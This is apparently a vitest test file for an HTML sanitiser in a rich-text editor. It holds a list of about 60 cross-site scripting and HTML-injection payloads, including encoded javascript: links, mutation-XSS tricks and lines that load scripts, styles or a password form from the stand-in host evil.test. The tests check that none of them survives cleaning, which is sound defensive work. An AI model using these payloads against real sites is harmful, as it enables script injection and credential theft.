import { createRequire } from 'node:module'
import { expect, test } from 'vitest'
import { cleanRichText } from './clean-rich-text.ts'

/** The package brings no types, and the server's compiler knows no browser: this is what is needed of both. */
interface Parsed {
  tagName: string
  attributes: Iterable<{ name: string }>
  getAttribute(name: string): string | null
}
const { JSDOM } = createRequire(import.meta.url)('jsdom') as {
  JSDOM: new (
    html: string,
  ) => { window: { document: { querySelectorAll(selector: string): Iterable<Parsed> } } }
}

/** What people have used against editors and sanitisers: none may leave anything that runs, loads or frames. */
const ATTACKS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.test/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script\n>alert(1)</script\n>',
  '<img src=x onerror=alert(1)>',
  '<img src="javascript:alert(1)">',
  '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
  '<img src=x:alert(alt) onerror=eval(src) alt=1>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>',
  '<math><mtext></p><img src=x onerror=alert(1)>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<body onload=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="//evil.test/x.swf">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java&#10;script:alert(1)">x</a>',
  '<a href="&#x6a;avascript:alert(1)">x</a>',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="//evil.test">x</a>',
  '<a href="https://ok.test" onclick="alert(1)">x</a>',
  '<a href="https://ok.test" style="position:fixed;inset:0">x</a>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<p onmouseover="alert(1)">x</p>',
  '<p/onclick=alert(1)>x</p>',
  '<p id="login" class="button" name="x">x</p>',
  '<style>@import "//evil.test/x.css"; body{display:none}</style>',
  '<link rel="stylesheet" href="//evil.test/x.css">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="//evil.test/">',
  '<form action="//evil.test"><input name=password><button>Sign in</button></form>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror="alert(1)"></video>',
  '<audio src=x onerror=alert(1)>',
  '<marquee onstart=alert(1)>',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<title><img src=x onerror=alert(1)></title>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<template><script>alert(1)</script></template>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><script>alert(1)</script>',
  '<isindex type=image src=1 onerror=alert(1)>',
  '<custom-element onclick=alert(1)>x</custom-element>',
  '<p><b><a href="https://ok.test"><script>alert(1)</script></a></b></p>',
  '<<script>alert(1)//<</script>',
  '<a href="https://ok.test" target="_self" rel="opener">x</a>',
]

const ALLOWED_TAGS = 'p br h2 h3 h4 strong b em i u s ul ol li a blockquote hr code pre'.split(' ')

/** Everything a browser would make of it. */
function elements(html: string) {
  const { document } = new JSDOM(`<!doctype html><body><div id="root">${html}</div>`).window
  return [...document.querySelectorAll('#root *')]
}

/** What stands outside of the root broke out of it. */
function outside(html: string) {
  const { document } = new JSDOM(`<!doctype html><body><div id="root">${html}</div>`).window
  return [...document.querySelectorAll('head > *, body > :not(#root)')].map((element) => element.tagName)
}

test('the corpus is as large as promised', () => {
  expect(ATTACKS.length).toBeGreaterThanOrEqual(60)
})

test.each(ATTACKS)('%s leaves nothing that runs', (attack) => {
  const html = cleanRichText(attack)
  expect(outside(html)).toEqual([])
  for (const element of elements(html)) {
    expect(ALLOWED_TAGS).toContain(element.tagName.toLowerCase())
    const attributes = [...element.attributes].map(({ name }) => name)
    expect(attributes.filter((name) => !['href', 'rel', 'target'].includes(name))).toEqual([])
    const href = element.getAttribute('href')
    if (href !== null) {
      const { protocol, hostname } = new URL(href, 'https://own.test')
      expect(['https:', 'mailto:', 'tel:']).toContain(protocol)
      expect(['own.test', 'ok.test']).toContain(hostname)
    }
    if (element.tagName === 'A') {
      expect([element.getAttribute('rel'), element.getAttribute('target')]).toEqual([
        'noopener noreferrer nofollow',
        '_blank',
      ])
    }
  }
})

test.each(ATTACKS)('%s is the same after a second cleaning', (attack) => {
  const once = cleanRichText(attack)
  expect(cleanRichText(once)).toBe(once)
})

test('what the editor makes is kept as it is', () => {
  const html =
    '<h2>Terms</h2><p>One <strong>two</strong> <em>three</em> <u>four</u> <s>five</s><br />six</p>' +
    '<ul><li>a</li></ul><ol><li>b</li></ol><blockquote><p>q</p></blockquote><hr /><pre><code>x &lt; y</code></pre>'
  expect(cleanRichText(html)).toBe(html)
})

test.each([
  ['<a href="https://ok.test/a?b=c&amp;d">x</a>', 'https://ok.test/a?b=c&amp;d'],
  ['<a href="mailto:desk@ok.test">x</a>', 'mailto:desk@ok.test'],
  ['<a href="tel:+49301234">x</a>', 'tel:+49301234'],
])('the link %s stays and opens by itself', (html, href) => {
  expect(cleanRichText(html)).toBe(
    `<a href="${href}" rel="noopener noreferrer nofollow" target="_blank">x</a>`,
  )
})

test('the largest heading becomes the second, and spaces around go', () => {
  expect(cleanRichText('  <h1>Terms</h1>\n ')).toBe('<h2>Terms</h2>')
})

test('texts in other scripts and signs stay what they are', () => {
  expect(cleanRichText('<p>شروط 1 &amp; 2 – zażółć “x” 鳥</p>')).toBe('<p>شروط 1 &amp; 2 – zażółć “x” 鳥</p>')
})
